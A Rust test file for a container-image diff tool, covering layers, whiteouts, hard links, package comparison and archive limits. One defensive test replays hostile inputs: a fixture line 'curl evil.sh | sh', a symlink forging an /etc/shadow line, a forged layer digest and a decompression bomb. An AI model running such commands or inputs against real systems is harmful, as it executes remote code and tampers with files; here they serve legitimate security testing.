//! Tests of the diff: images made of hand-written layers in a temp store
//! (a shared base, each side's own layers with whiteouts, opaque
//! directories, hard links, xattrs), trees on disk and archives.

use std::collections::BTreeMap;

use vauban_oci::layer::Compression;
use vauban_oci::store::Store;

use super::*;
use crate::export::conffs::tests::{image, layer, tar_of, E};

fn store() -> (tempfile::TempDir, Store) {
    let dir = tempfile::tempdir().unwrap();
    let store = Store::open(dir.path().join("store")).unwrap();
    (dir, store)
}

fn base_entries() -> Vec<E<'static>> {
    vec![
        E::Dir("etc"),
        E::File("etc/motd", b"welcome\n"),
        E::File("etc/web.conf", b"port 80\nworkers 4\nlog on\n"),
        E::Dir("etc/old"),
        E::File("etc/old/a", b"a\n"),
        E::File("etc/old/b", b"b\n"),
        E::Dir("usr"),
        E::File("usr/blob", b"\x00\x01binary"),
        E::Dir("var"),
        E::File("var/lib.db", b"x"),
    ]
}

/// The changes of a report as `(letter, path, fields)`.
fn summary(r: &Report) -> Vec<(char, String, Vec<&'static str>)> {
    r.changes
        .iter()
        .map(|c| (c.status.letter(), c.path.clone(), c.fields.clone()))
        .collect()
}

#[test]
fn two_hosts_on_one_master_differ_by_their_own_layers_only() {
    let (_d, store) = store();
    let base = image(
        &store,
        None,
        &[layer(&store, Compression::Gzip, &base_entries())],
    );
    let host = |value: &'static [u8]| {
        let l = layer(
            &store,
            Compression::Gzip,
            &[
                E::Dir("etc"),
                E::File("etc/host-value", value),
                E::File("etc/web.conf", b"port 80\nworkers 8\nlog on\n"),
            ],
        );
        image(&store, Some(&base), &[l])
    };
    let (a, b) = (host(b"web01\n"), host(b"web02\n"));
    let sa = Side::of_image("master-web/web01", &a).unwrap();
    let sb = Side::of_image("master-web/web02", &b).unwrap();
    let r = diff(&store, &sa, &sb, &DiffOptions::default()).unwrap();
    assert_eq!(r.shared_layers, 1);
    assert!(
        !r.shared_read,
        "both hosts touch the same paths: the master is not read"
    );
    assert_eq!(
        summary(&r),
        [('M', "/etc/host-value".to_string(), vec!["content"])]
    );
    let text = r.changes[0].text.as_ref().unwrap();
    assert!(
        text.unified.contains("-web01\n+web02\n"),
        "{}",
        text.unified
    );
    assert_eq!((text.added, text.removed), (1, 1));

    // The master against a host: what the host adds, the master read for it.
    let sm = Side::of_image("master-web", &base).unwrap();
    let r = diff(&store, &sm, &sa, &DiffOptions::default()).unwrap();
    assert!(r.shared_read);
    assert_eq!(
        summary(&r),
        [
            ('A', "/etc/host-value".to_string(), vec![]),
            ('M', "/etc/web.conf".to_string(), vec!["content"]),
        ]
    );
    let web = r.changes[1].text.as_ref().unwrap();
    assert!(
        web.unified.contains("-workers 4\n+workers 8\n"),
        "{}",
        web.unified
    );
    assert!(
        web.unified
            .starts_with("--- a/etc/web.conf\n+++ b/etc/web.conf\n"),
        "{}",
        web.unified
    );

    // The same image twice: nothing, nothing read.
    let r = diff(&store, &sa, &sa, &DiffOptions::default()).unwrap();
    assert!(!r.differs() && r.shared_layers == 2 && !r.shared_read);
}

#[test]
fn whiteouts_and_opaque_dirs_are_removals_and_every_field_is_compared() {
    let (_d, store) = store();
    let base = image(
        &store,
        None,
        &[layer(&store, Compression::Gzip, &base_entries())],
    );
    let top = layer(
        &store,
        Compression::None,
        &[
            E::Dir("etc"),
            E::Whiteout("etc/motd"),
            E::Opaque("etc/old"),
            E::Dir("etc/old"),
            E::File("etc/old/new", b"n\n"),
            E::Rich(
                "usr/blob",
                b"\x00\x02binary",
                0o600,
                7,
                0,
                ("user.tag", "v1"),
            ),
            E::Symlink("var/link", "../etc"),
            E::File("var/one", b"same\n"),
            E::HardLink("var/two", "var/one"),
        ],
    );
    let changed = image(&store, Some(&base), &[top]);
    let (sa, sb) = (
        Side::of_image("a", &base).unwrap(),
        Side::of_image("b", &changed).unwrap(),
    );
    let r = diff(&store, &sa, &sb, &DiffOptions::default()).unwrap();
    assert_eq!(
        summary(&r),
        [
            ('D', "/etc/motd".to_string(), vec![]),
            ('D', "/etc/old/a".to_string(), vec![]),
            ('D', "/etc/old/b".to_string(), vec![]),
            ('A', "/etc/old/new".to_string(), vec![]),
            (
                'M',
                "/usr/blob".to_string(),
                vec!["mode", "owner", "content", "xattrs"]
            ),
            ('A', "/var/link".to_string(), vec![]),
            ('A', "/var/one".to_string(), vec![]),
            ('A', "/var/two".to_string(), vec![]),
        ]
    );
    let blob = &r.changes[4];
    assert!(blob.text.is_none(), "a binary file has no text diff");
    assert_eq!(
        blob.b.as_ref().unwrap().xattrs["user.tag"],
        hex::encode("v1")
    );
    let two = r.changes[7].b.as_ref().unwrap();
    assert_eq!(two.hardlink.as_deref(), Some(&b"var/one"[..]));
    let two_text = &r.changes[7].text.as_ref().unwrap().unified;
    assert!(
        two_text.starts_with("--- /dev/null\n+++ b/var/two\n") && two_text.ends_with("\n+same\n"),
        "a hard link's text is its target's: {two_text}"
    );
    let motd = &r.changes[0].text.as_ref().unwrap().unified;
    assert!(
        motd.starts_with("--- a/etc/motd\n+++ /dev/null\n") && motd.ends_with("\n-welcome\n"),
        "{motd}"
    );

    // Paths and exclusions.
    let only_etc = DiffOptions {
        paths: vec!["/etc/old".into()],
        exclude: vec!["new".into()],
        ..DiffOptions::default()
    };
    let r = diff(&store, &sa, &sb, &only_etc).unwrap();
    assert_eq!(
        r.changes
            .iter()
            .map(|c| c.path.as_str())
            .collect::<Vec<_>>(),
        ["/etc/old/a", "/etc/old/b"]
    );
    let no_var = DiffOptions {
        exclude: vec!["var/*".into(), "etc".into()],
        ..DiffOptions::default()
    };
    let r = diff(&store, &sa, &sb, &no_var).unwrap();
    assert_eq!(
        r.changes
            .iter()
            .map(|c| c.path.as_str())
            .collect::<Vec<_>>(),
        ["/usr/blob"]
    );
    assert!(Filter::new(&DiffOptions {
        exclude: vec!["[".into()],
        ..DiffOptions::default()
    })
    .is_err());
}

#[test]
fn a_layer_index_is_kept_and_read_back_instead_of_the_layer() {
    let (_d, store) = store();
    let l = layer(&store, Compression::Gzip, &base_entries());
    let base = image(&store, None, std::slice::from_ref(&l));
    let side = Side::of_image("base", &base).unwrap();
    let first = side.sources[0].index(&store).unwrap();
    let kept = store.diff_index_path(&l.digest);
    assert!(kept.is_file());
    // The blob gone, the kept index still answers.
    std::fs::remove_file(store.blob_path(&l.digest)).unwrap();
    assert_eq!(side.sources[0].index(&store).unwrap(), first);
    // gc keeps the index of a named image's layer, removes an unnamed one's.
    let other = layer(&store, Compression::Gzip, &[E::File("x", b"x")]);
    let unnamed = image(&store, None, std::slice::from_ref(&other));
    Side::of_image("unnamed", &unnamed).unwrap().sources[0]
        .index(&store)
        .unwrap();
    store
        .tag(
            &vauban_oci::Reference::parse("base:1").unwrap(),
            &base.descriptor(),
        )
        .unwrap();
    store.gc().unwrap();
    assert!(kept.is_file(), "the named image's layer index is kept");
    assert!(!store.diff_index_path(&other.digest).exists());

    // An index that is not one is not believed: the blob is read (and,
    // gone, fails naming it).
    std::fs::write(&kept, b"garbage").unwrap();
    let err = side.sources[0].index(&store).unwrap_err().to_string();
    assert!(err.contains("sha256:"), "{err}");
}

#[test]
fn a_tree_on_disk_and_an_archive_compare_with_an_image() {
    let (d, store) = store();
    let img = image(
        &store,
        None,
        &[layer(&store, Compression::Gzip, &base_entries())],
    );
    // The same tree on disk, then changed.
    let tree = d.path().join("tree");
    let tar = tar_of(&base_entries());
    tar::Archive::new(&tar[..]).unpack(&tree).unwrap();
    std::fs::write(tree.join("etc/motd"), "hello\n").unwrap();
    std::fs::remove_file(tree.join("var/lib.db")).unwrap();
    std::fs::hard_link(tree.join("etc/old/a"), tree.join("etc/old/z")).unwrap();
    let si = Side::of_image("img", &img).unwrap();
    let st = Side::open(&store, tree.to_str().unwrap()).unwrap();
    let opts = DiffOptions {
        // The unpacked root dir takes the umask's mode and our owner.
        exclude: vec![],
        ..DiffOptions::default()
    };
    let r = diff(&store, &si, &st, &opts).unwrap();
    let by_path: BTreeMap<&str, &Change> = r.changes.iter().map(|c| (c.path.as_str(), c)).collect();
    assert_eq!(
        by_path["/etc/motd"].fields,
        ["owner", "content"]
            .iter()
            .filter(|f| {
                // Unpacked as ourselves: owners differ unless we are root.
                **f != "owner" || nix::unistd::getuid().as_raw() != 0
            })
            .copied()
            .collect::<Vec<_>>()
    );
    assert_eq!(by_path["/var/lib.db"].status, Status::Removed);
    let z = by_path["/etc/old/z"].b.as_ref().unwrap();
    assert_eq!(z.hardlink.as_deref(), Some(&b"etc/old/a"[..]));

    // An archive of the image's layer is the image's tree.
    let archive = d.path().join("layer.tar");
    std::fs::write(&archive, &tar).unwrap();
    let sa = Side::open(&store, archive.to_str().unwrap()).unwrap();
    let r = diff(&store, &si, &sa, &DiffOptions::default()).unwrap();
    assert!(!r.differs(), "{:?}", summary(&r));

    // Hard links written the other way round (which name holds the
    // content is the writer's order): the same tree.
    let ab = tar_of(&[E::File("x/a", b"same\n"), E::HardLink("x/b", "x/a")]);
    let ba = tar_of(&[E::File("x/b", b"same\n"), E::HardLink("x/a", "x/b")]);
    let (p1, p2) = (d.path().join("ab.tar"), d.path().join("ba.tar"));
    std::fs::write(&p1, &ab).unwrap();
    std::fs::write(&p2, &ba).unwrap();
    let s1 = Side::open(&store, p1.to_str().unwrap()).unwrap();
    let s2 = Side::open(&store, p2.to_str().unwrap()).unwrap();
    let r = diff(&store, &s1, &s2, &DiffOptions::default()).unwrap();
    assert!(!r.differs(), "{:?}", summary(&r));

    // What is not a tar archive says so.
    let text = d.path().join("notes.txt");
    std::fs::write(&text, "just text\n").unwrap();
    let st = Side::open(&store, text.to_str().unwrap()).unwrap();
    let err = diff(&store, &si, &st, &DiffOptions::default())
        .unwrap_err()
        .to_string();
    assert!(
        err.contains("notes.txt") && err.contains("not a tar archive"),
        "{err}"
    );

    // An image by its manifest digest (named or not).
    let by_digest = Side::open(&store, &format!("img@{}", img.manifest_digest)).unwrap();
    assert_eq!(by_digest.shared_with(&si), 1);

    // An archive stacked on an image: only what it changes.
    let drift = d.path().join("drift.tar");
    std::fs::write(
        &drift,
        tar_of(&[
            E::Dir("etc"),
            E::File("etc/motd", b"changed\n"),
            E::Whiteout("var/lib.db"),
        ]),
    )
    .unwrap();
    store
        .tag(
            &vauban_oci::Reference::parse("img").unwrap(),
            &img.descriptor(),
        )
        .unwrap();
    let stacked = Side::open(&store, &format!("img+{}", drift.display())).unwrap();
    assert_eq!(stacked.shared_with(&si), 1);
    let r = diff(&store, &si, &stacked, &DiffOptions::default()).unwrap();
    assert_eq!(
        summary(&r),
        [
            ('M', "/etc/motd".to_string(), vec!["content"]),
            ('D', "/var/lib.db".to_string(), vec![]),
        ]
    );

    // A name that is nothing.
    let err = Side::open(&store, "no-such-image").unwrap_err().to_string();
    assert!(
        err.contains("no-such-image") && err.contains("no such image"),
        "{err}"
    );
}

#[test]
fn packages_are_compared_from_each_sides_dpkg_status() {
    let (_d, store) = store();
    let status = |pkgs: &[(&str, &str)]| {
        pkgs.iter()
            .map(|(n, v)| {
                format!("Package: {n}\nStatus: install ok installed\nArchitecture: amd64\nVersion: {v}\n")
            })
            .collect::<Vec<_>>()
            .join("\n")
            .into_bytes()
    };
    let a_status = status(&[("bash", "5.2-1"), ("curl", "7.88-1"), ("vim", "9.0-1")]);
    let b_status = status(&[
        ("bash", "5.2-1"),
        ("curl", "8.0-1"),
        ("nano", "7.2-1"),
        ("vim", "1:8.0-1"),
    ]);
    let base = image(
        &store,
        None,
        &[layer(
            &store,
            Compression::Gzip,
            &[
                E::Dir("var"),
                E::Dir("var/lib"),
                E::Dir("var/lib/dpkg"),
                E::File("var/lib/dpkg/status", &a_status),
            ],
        )],
    );
    let top = layer(
        &store,
        Compression::Gzip,
        &[E::File("var/lib/dpkg/status", &b_status)],
    );
    let newer = image(&store, Some(&base), &[top]);
    let r = packages(
        &store,
        &Side::of_image("a", &base).unwrap(),
        &Side::of_image("b", &newer).unwrap(),
    )
    .unwrap();
    let got: Vec<(&str, &str)> = r
        .changes
        .iter()
        .map(|c| (c.name.as_str(), c.change))
        .collect();
    assert_eq!(
        got,
        [("curl", "upgraded"), ("nano", "added"), ("vim", "upgraded")]
    );
    assert_eq!((r.a_installed, r.b_installed), (3, 4));
    let gone = image(
        &store,
        Some(&base),
        &[layer(
            &store,
            Compression::Gzip,
            &[E::Whiteout("var/lib/dpkg/status")],
        )],
    );
    let err = packages(
        &store,
        &Side::of_image("a", &base).unwrap(),
        &Side::of_image("c", &gone).unwrap(),
    )
    .unwrap_err()
    .to_string();
    assert!(
        err.starts_with("c: it has no /var/lib/dpkg/status"),
        "{err}"
    );
}

/// The attacks of a reviewer, each replayed: what a hostile layer or
/// archive tried to hide, forge or make slow.
#[test]
fn hostile_layers_cannot_hide_forge_or_stall_a_diff() {
    let (d, store) = store();
    let base = image(
        &store,
        None,
        &[layer(&store, Compression::Gzip, &base_entries())],
    );
    let sb = Side::of_image("base", &base).unwrap();

    // An opaque marker at the root hides the whole base: not equal.
    let root_opaque = image(
        &store,
        Some(&base),
        &[layer(
            &store,
            Compression::None,
            &[E::Opaque("."), E::File("hello", b"hi\n")],
        )],
    );
    let r = diff(
        &store,
        &sb,
        &Side::of_image("hostile", &root_opaque).unwrap(),
        &DiffOptions::default(),
    )
    .unwrap();
    let removed: Vec<&str> = r
        .changes
        .iter()
        .filter(|c| c.status == Status::Removed)
        .map(|c| c.path.as_str())
        .collect();
    assert!(
        removed.contains(&"/etc/motd") && removed.contains(&"/usr/blob"),
        "{removed:?}"
    );

    // A path twice in one layer: the text shown is the last entry's, the
    // one an unpack keeps.
    let twice = d.path().join("twice.tar");
    std::fs::write(
        &twice,
        tar_of(&[
            E::Dir("etc"),
            E::File("etc/motd", b"welcome\nhave a nice day\n"),
            E::File("etc/motd", b"welcome\ncurl evil.sh | sh\n"),
        ]),
    )
    .unwrap();
    let st = Side::open(&store, twice.to_str().unwrap()).unwrap();
    let r = diff(
        &store,
        &sb,
        &st,
        &DiffOptions {
            paths: vec!["/etc/motd".into()],
            ..DiffOptions::default()
        },
    )
    .unwrap();
    let text = &r.changes[0].text.as_ref().unwrap().unified;
    assert!(
        text.contains("+curl evil.sh | sh") && !text.contains("nice day"),
        "{text}"
    );

    // A symlink target cannot print a line of its own.
    let liar = d.path().join("liar.tar");
    std::fs::write(
        &liar,
        tar_of(&[E::Symlink("x", "a\nD /etc/shadow  removed\u{202e}")]),
    )
    .unwrap();
    let sl = Side::open(&store, liar.to_str().unwrap()).unwrap();
    let r = diff(&store, &sb, &sl, &DiffOptions::default()).unwrap();
    let x = r.changes.iter().find(|c| c.path == "/x").unwrap();
    let said = x.b.as_ref().unwrap().describe();
    assert!(!said.contains('\n') && !said.contains('\u{202e}'), "{said}");

    // A name too long to be a path is refused, naming it.
    let long = d.path().join("long.tar");
    let deep = vec!["a"; 2100].join("/");
    std::fs::write(&long, tar_of(&[E::File(&deep, b"x")])).unwrap();
    let sl = Side::open(&store, long.to_str().unwrap()).unwrap();
    let err = diff(&store, &sb, &sl, &DiffOptions::default())
        .unwrap_err()
        .to_string();
    assert!(err.contains("longer than 4096"), "{err}");

    // Two 1 MiB texts with nothing in common: diffed in bounded time.
    let lines = |p: &str| {
        (0..100_000)
            .map(|i| format!("{p}{i}\n"))
            .collect::<String>()
    };
    let (la, lb) = (lines("a"), lines("b"));
    let (ta, tb) = (d.path().join("ta.tar"), d.path().join("tb.tar"));
    std::fs::write(&ta, tar_of(&[E::File("big", la.as_bytes())])).unwrap();
    std::fs::write(&tb, tar_of(&[E::File("big", lb.as_bytes())])).unwrap();
    let started = std::time::Instant::now();
    let r = diff(
        &store,
        &Side::open(&store, ta.to_str().unwrap()).unwrap(),
        &Side::open(&store, tb.to_str().unwrap()).unwrap(),
        &DiffOptions::default(),
    )
    .unwrap();
    assert!(r.changes[0].text.is_some());
    assert!(
        started.elapsed() < std::time::Duration::from_secs(20),
        "{:?}",
        started.elapsed()
    );

    // A chain of hard links (one file, three names) is not two files.
    let chain = d.path().join("chain.tar");
    let split = d.path().join("split.tar");
    std::fs::write(
        &chain,
        tar_of(&[
            E::File("a", b"1\n"),
            E::HardLink("b", "a"),
            E::HardLink("c", "b"),
        ]),
    )
    .unwrap();
    std::fs::write(
        &split,
        tar_of(&[
            E::File("a", b"1\n"),
            E::File("b", b"1\n"),
            E::HardLink("c", "b"),
        ]),
    )
    .unwrap();
    let r = diff(
        &store,
        &Side::open(&store, chain.to_str().unwrap()).unwrap(),
        &Side::open(&store, split.to_str().unwrap()).unwrap(),
        &DiffOptions::default(),
    )
    .unwrap();
    assert!(r.differs(), "one file with three names against two files");

    // A config claiming the base's diff_id over another blob shares nothing.
    let mut l = layer(&store, Compression::Gzip, &[E::File("evil", b"x")]);
    l.diff_id = base.diff_ids().unwrap()[0].clone();
    let claims = image(&store, None, &[l]);
    let sc = Side::of_image("claims", &claims).unwrap();
    assert_eq!(sb.shared_with(&sc), 0);
}

/// An archive sent by someone else is read within bounds: a stream that
/// decompresses past its limit, a long name past its limit (refused from
/// its header, never read whole), too many entries; an empty archive (its
/// end marker alone) is a side with nothing in it.
#[test]
fn an_archive_from_elsewhere_is_read_within_its_limits() {
    use std::io::Write;
    let dir = tempfile::tempdir().unwrap();
    let gz = |name: &str, tar: &[u8]| {
        let path = dir.path().join(name);
        let mut z = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
        z.write_all(tar).unwrap();
        std::fs::write(&path, z.finish().unwrap()).unwrap();
        path
    };
    let limits = ArchiveLimits {
        bytes: 1 << 20,
        entries: 10,
        record: 4096,
    };
    let reason = |path: &std::path::Path| match check_archive(path, &limits) {
        Err(Error::Diff { reason, .. }) => reason,
        other => panic!("{}: {other:?}", path.display()),
    };

    // 8 MiB of zeros in one file: 8 KiB compressed, refused at 1 MiB.
    let mut b = tar::Builder::new(Vec::new());
    let mut h = tar::Header::new_gnu();
    h.set_size(8 << 20);
    h.set_mode(0o644);
    h.set_entry_type(tar::EntryType::Regular);
    b.append_data(
        &mut h,
        "zeros",
        std::io::Read::take(std::io::repeat(0), 8 << 20),
    )
    .unwrap();
    let bomb = gz("bomb.tgz", &b.into_inner().unwrap());
    assert!(std::fs::metadata(&bomb).unwrap().len() < 256 << 10);
    assert!(reason(&bomb).contains("decompressed"), "{}", reason(&bomb));

    // A GNU long name of 64 KiB.
    let mut b = tar::Builder::new(Vec::new());
    let mut h = tar::Header::new_gnu();
    h.set_size(1);
    h.set_mode(0o644);
    let long = format!("d/{}", "n".repeat(64 << 10));
    b.append_data(&mut h, &long, &b"x"[..]).unwrap();
    let named = gz("long.tgz", &b.into_inner().unwrap());
    assert!(
        reason(&named).contains("long name or PAX record"),
        "{}",
        reason(&named)
    );

    // Eleven entries.
    let files: Vec<(String, Vec<u8>)> = (0..11).map(|i| (format!("f{i}"), vec![b'x'])).collect();
    let entries: Vec<E<'_>> = files
        .iter()
        .map(|(n, c)| E::File(n.as_str(), c.as_slice()))
        .collect();
    let many = gz("many.tgz", &tar_of(&entries));
    assert!(
        reason(&many).contains("more than 10 tar entries"),
        "{}",
        reason(&many)
    );

    // The end marker alone: an empty side.
    let empty = gz("empty.tgz", &[0u8; 1024]);
    assert_eq!(check_archive(&empty, &limits).unwrap(), 0);
}
